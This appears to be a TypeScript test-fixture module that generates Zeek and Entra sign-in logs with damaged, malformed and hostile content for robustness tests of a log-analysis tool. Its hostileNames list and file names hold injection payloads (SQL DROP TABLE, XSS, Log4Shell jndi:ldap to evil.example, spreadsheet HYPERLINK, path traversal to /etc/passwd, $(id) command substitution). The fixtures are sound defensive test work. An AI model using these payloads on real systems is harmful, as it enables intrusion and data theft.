import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gzipSync } from "node:zlib";

const fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state".split(
  " ",
);
const types = "time string addr port addr port enum string interval count count string".split(" ");
const connHead = [
  "#separator \\x09",
  "#set_separator\t,",
  "#empty_field\t(empty)",
  "#unset_field\t-",
  "#path\tconn",
  `#fields\t${fields.join("\t")}`,
  `#types\t${types.join("\t")}`,
];
const noon = Date.parse("2026-11-02T12:00:00Z") / 1000;

/** A Zeek conn line; every value can be replaced. */
export function connLine(number: number, changed: Readonly<Record<string, string>> = {}): string {
  const usual: Readonly<Record<string, string>> = {
    ts: `${noon + number}.000000`,
    uid: `C${number}`,
    "id.orig_h": "10.0.0.5",
    "id.orig_p": "50000",
    "id.resp_h": "203.0.113.7",
    "id.resp_p": "443",
    proto: "tcp",
    service: "ssl",
    duration: "0.5",
    orig_bytes: "100",
    resp_bytes: "200",
    conn_state: "SF",
  };
  return fields.map((field) => changed[field] ?? usual[field] ?? "-").join("\t");
}

/** A Zeek conn log of these lines. */
export function connLog(lines: readonly string[]): string {
  return `${[...connHead, ...lines].join("\n")}\n`;
}

/** A sign-in as Entra tells it. */
export function signIn(number: number, changed: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
  return {
    id: `sign-in-${number}`,
    createdDateTime: new Date((noon + number) * 1000).toISOString(),
    userDisplayName: "A Person",
    userPrincipalName: "person@example.com",
    userId: "6a6c1b6e-0000-4000-8000-000000000001",
    appId: "00000002-0000-0ff1-ce00-000000000000",
    appDisplayName: "Mail",
    ipAddress: "198.51.100.7",
    isInteractive: true,
    status: { errorCode: 0, failureReason: "Other." },
    location: { city: "Utrecht", countryOrRegion: "NL" },
    ...changed,
  };
}

/** What hosts and people may be called by somebody who means harm: to SQL, pages, Markdown, terminals, spreadsheets and paths. */
export const hostileNames: readonly string[] = [
  "'; DROP TABLE finding; --",
  "<script>window.hit=1</script>",
  '"><img src=x onerror=window.hit=2>',
  "see [click](javascript:window.hit=3)",
  "![pixel](https://evil.example/pixel.png)",
  "| cell | cell |\n| --- | --- |\n# heading",
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "\u202Etxt.exe \u2066hidden\u2069\u200B",
  '=HYPERLINK("https://evil.example","x")',
  "../../../../etc/passwd",
  "%s%n$\u007bjndi:ldap://evil.example/a}{{7*7}}`id`$(id)",
  "\u0000\u0001\u009b31m",
  "{user:String}",
  "\\N",
];

export interface HostileLogs {
  /** By the path below the folder: how many lines that carry something are in a file that can be read. */
  readonly lines: ReadonlyMap<string, number>;
  /** By the path below the folder: how many of its records are good. */
  readonly good: ReadonlyMap<string, number>;
}

/** Fills a folder with what logs may be at their worst. */
export function writeHostileLogs(folder: string): HostileLogs {
  const lines = new Map<string, number>();
  const good = new Map<string, number>();
  const put = (name: string, content: string | Buffer, counts?: { lines: number; good: number }): void => {
    const path = join(folder, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
    if (counts === undefined) return;
    lines.set(name, counts.lines);
    good.set(name, counts.good);
  };
  const ndjson = (rows: readonly unknown[]): string => rows.map((row) => `${JSON.stringify(row)}\n`).join("");

  // Damaged, foreign, empty.
  const whole = gzipSync(connLog(Array.from({ length: 5000 }, (_, number) => connLine(number, { uid: `T${number}` }))));
  put("damaged/truncated.log.gz", whole.subarray(0, Math.floor(whole.length * 0.6)));
  put("damaged/flipped.log.gz", Buffer.concat([whole.subarray(0, 2000), Buffer.from("flipped"), whole.subarray(2007)]));
  put("foreign/junk.bin", Buffer.from(Array.from({ length: 100_000 }, (_, at) => (at * 7919 + (at >> 3)) % 256)));
  put("foreign/junk.log.gz", Buffer.from(Array.from({ length: 10_000 }, (_, at) => (at * 104_729 + (at >> 5)) % 256)));
  put("foreign/prose.txt", "Dear reader,\nthis is no log.\n");
  put("foreign/columns.csv", "one,two,three\n1,2,3\n");
  put("empty/empty.log", "");
  put("empty/blank.log", "\n\n\n");
  put("empty/empty.log.gz", gzipSync(""));
  mkdirSync(join(folder, "empty/folder"), { recursive: true });

  // Lines that are too long, not text, not of the columns that the header promised.
  const long = JSON.stringify(signIn(1, { id: "long", userAgent: "A".repeat(50 * 1024 * 1024) }));
  put(
    "lines/long.ndjson",
    `${JSON.stringify(signIn(0, { id: "short" }))}\n${long}\n${JSON.stringify(signIn(2, { id: "last" }))}\n`,
    { lines: 3, good: 3 },
  );
  put("lines/long.log", connLog([connLine(1, { uid: "X1" }), "x".repeat(50 * 1024 * 1024), connLine(2, { uid: "X2" })]), {
    lines: 3,
    good: 2,
  });
  const bytes = Buffer.from(
    connLog([connLine(1, { uid: "U1", service: "@@" }), connLine(2, { uid: "U2", service: "##" }), connLine(3, { uid: "U3" })]),
  );
  bytes.set([0xff, 0xfe], bytes.indexOf("@@"));
  bytes.set([0x00, 0x41], bytes.indexOf("##"));
  put("lines/not-text.log", bytes, { lines: 3, good: 3 });
  put(
    "lines/columns.log",
    connLog([
      connLine(1, { uid: "W1" }),
      "1793620800.0\tW2\tonly\tfour",
      `${connLine(3, { uid: "W3" })}\tmore\tthan\tpromised`,
      connLine(4, { uid: "W4", "id.orig_p": "port" }),
      "no tabs at all",
    ]),
    {
      lines: 5,
      good: 2,
    },
  );
  put(
    "lines/columns.csv",
    'StartTime,Dur,Proto,SrcAddr,Sport,Dir,DstAddr,Dport,State,sTos,dTos,TotPkts,TotBytes,SrcBytes\n2026/11/02 12:00:00.000000,1.0,tcp,10.0.0.5,5000,->,203.0.113.7,80,CON,0,0,10,1000,500\n2026/11/02 12:00:01.000000,1.0,tcp\n"unclosed,quote\n2026/11/02 12:00:02.000000,1.0,tcp,10.0.0.6,5001,->,203.0.113.7,80,CON,0,0,many,lots,500\n',
  );

  // Times that no log should have.
  const seconds: readonly (readonly [string, string])[] = [
    ["1601", "-11644473600.000000"],
    ["negative", "-1.000000"],
    ["zero", "0.000000"],
    ["2199", "7258118399.000000"],
    ["2262", "9223372037.000000"],
    ["9999", "253402300799.000000"],
    ["overflow", "99999999999999999999.000000"],
    ["nan", "nan"],
    ["none", "-"],
    ["empty", ""],
    ["exponent", "1e400"],
  ];
  put(
    "times/conn.log",
    connLog([...seconds.map(([uid, ts], at) => connLine(at, { uid: `time-${uid}`, ts })), connLine(20, { uid: "time-good" })]),
    {
      lines: 12,
      good: 3,
    },
  );
  const moments = [
    "1601-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z",
    "2262-04-12T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "yesterday",
    "",
    "2026-11-02T12:00:00Z",
  ];
  put(
    "times/sign-ins.ndjson",
    ndjson(moments.map((createdDateTime, at) => signIn(at, { id: `moment-${at}`, createdDateTime }))),
    { lines: 9, good: 2 },
  );

  // JSON at its worst.
  const nested = `{"id":"nested","createdDateTime":"2026-11-02T12:00:00Z","userPrincipalName":"a@example.com","x":${'{"a":'.repeat(100_000)}1${"}".repeat(100_001)}`;
  const arrays = `{"id":"arrays","createdDateTime":"2026-11-02T12:00:00Z","userPrincipalName":"a@example.com","x":${"[".repeat(100_000)}${"]".repeat(100_000)}}`;
  const repeated = `{"id":"first","id":"second","createdDateTime":"2026-11-02T12:00:00Z","createdDateTime":"2026-11-02T13:00:00Z",${JSON.stringify(signIn(1)).slice(1)}`;
  const lone = JSON.stringify(signIn(2, { id: "lone" })).replace("A Person", "lone \\ud800 and \\udc00");
  put(
    "json/worst.ndjson",
    `${JSON.stringify(signIn(0, { id: "good" }))}\n${nested}\n${arrays}\n${repeated}\n${lone}\n{"id":"cut","createdDateTime":"2026-11-02T12:0\nnull\n[]\n"text"\n`,
    { lines: 9, good: 3 },
  );
  put("json/nested.json", `${"[".repeat(100_000)}${"]".repeat(100_000)}`);

  // Names that somebody could have chosen; what they hold is good.
  const names = [
    " space .log",
    'quote\'s "and" `more`.log',
    "new\nline.log",
    "all*[1]?{a,b}.log",
    "\u202Egol.exe.log",
    "-rf.log",
    "$(touch pwned);&|.log",
    "%2e%2e%2f.log",
    `${"n".repeat(250)}.log`,
    "süß.log",
    "file.log.gz",
  ];
  for (const [at, name] of names.entries())
    put(join("names", name), connLog([connLine(at, { uid: `name-${at}` })]), { lines: 1, good: 1 });
  const foreignBytes = Buffer.concat([Buffer.from(join(folder, "names/")), Buffer.from([0x63, 0xe9, 0xff]), Buffer.from(".log")]);
  writeFileSync(foreignBytes, connLog([connLine(99, { uid: "name-bytes" })]));

  // Links and what cannot be read.
  mkdirSync(join(folder, "links"));
  symlinkSync(".", join(folder, "links/itself"));
  symlinkSync("..", join(folder, "links/parent"));
  symlinkSync("b", join(folder, "links/a"));
  symlinkSync("a", join(folder, "links/b"));
  symlinkSync("absent", join(folder, "links/nowhere"));
  symlinkSync("/proc/self/mem", join(folder, "links/memory.log"));
  put("links/forbidden.log", connLog([connLine(0, { uid: "forbidden" })]));
  chmodSync(join(folder, "links/forbidden.log"), 0o000);
  return { lines, good };
}

/** Logs whose people, hosts and alerts bear hostile names, and which make findings of them. */
export function writeHostileNames(folder: string): void {
  mkdirSync(folder, { recursive: true });
  // Guessing of passwords against each, from one address, with one success.
  const signIns = hostileNames.flatMap((name, person) =>
    Array.from({ length: 40 }, (_, attempt) =>
      signIn(person * 100 + attempt, {
        id: `guess-${person}-${attempt}`,
        userPrincipalName: name,
        userDisplayName: name,
        ipAddress: "198.51.100.66",
        appDisplayName: name,
        status: attempt === 39 ? { errorCode: 0 } : { errorCode: 50_126, failureReason: name },
        location: { city: name, countryOrRegion: person % 2 === 0 ? name : "NL" },
      }),
    ),
  );
  writeFileSync(join(folder, "sign-ins.ndjson"), signIns.map((row) => `${JSON.stringify(row)}\n`).join(""));
  const alerts = hostileNames.map((name, at) => ({
    id: `alert-${at}`,
    title: name,
    description: name,
    category: name,
    severity: "high",
    status: "new",
    serviceSource: "microsoftDefenderForEndpoint",
    createdDateTime: "2026-11-02T12:00:00Z",
    lastUpdateDateTime: "2026-11-02T12:00:00Z",
    firstActivityDateTime: "2026-11-02T12:00:00Z",
    lastActivityDateTime: "2026-11-02T12:00:00Z",
    mitreTechniques: ["T1059", name],
    evidence: [{ "@odata.type": "#microsoft.graph.security.deviceEvidence", deviceDnsName: name, hostName: name }],
  }));
  writeFileSync(join(folder, "alerts.ndjson"), alerts.map((row) => `${JSON.stringify(row)}\n`).join(""));
  // A beacon to each name, every minute.
  const fieldsOfSsl = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version server_name established".split(" ");
  const calls = hostileNames.flatMap((name, at) =>
    Array.from({ length: 60 }, (_, call) =>
      [
        noon + call * 60 + at,
        `S${at}-${call}`,
        `10.0.1.${at + 1}`,
        50_000 + call,
        `203.0.113.${at + 100}`,
        443,
        "TLSv13",
        zeekText(`${name}.evil.example`),
        "T",
      ].join("\t"),
    ),
  );
  const head = [
    ...connHead.slice(0, 4),
    "#path\tssl",
    `#fields\t${fieldsOfSsl.join("\t")}`,
    "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tbool",
  ];
  writeFileSync(join(folder, "ssl.log"), `${[...head, ...calls].join("\n")}\n`);
}

/** As Zeek writes text: what would break its lines is escaped. */
function zeekText(text: string): string {
  return text.replace(/[\p{Cc}\\]/gu, (character) => `\\x${character.charCodeAt(0).toString(16).padStart(2, "0")}`);
}
